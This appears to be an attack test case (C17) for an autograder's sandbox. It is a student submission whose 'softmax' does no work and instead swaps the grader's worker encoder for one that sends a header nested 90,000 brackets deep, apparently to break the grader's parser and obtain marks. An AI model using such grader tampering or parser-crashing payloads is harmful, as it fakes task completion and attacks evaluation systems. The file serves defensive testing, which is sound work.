"""Sends a header nested ninety thousand deep.

ids: C17
wants: marks
arms: boundary only, full sandbox
because: a grader that shares the student's process sends itself no messages
"""
import os
import struct

from autograder.untrusted import wire, worker

TREE = b'[' * 90000 + b']' * 90000

def forged(value):
    return struct.pack("<QQ", len(TREE), 0) + TREE


def softmax(Z, dim=-1):
    worker.encoded = forged
    return Z
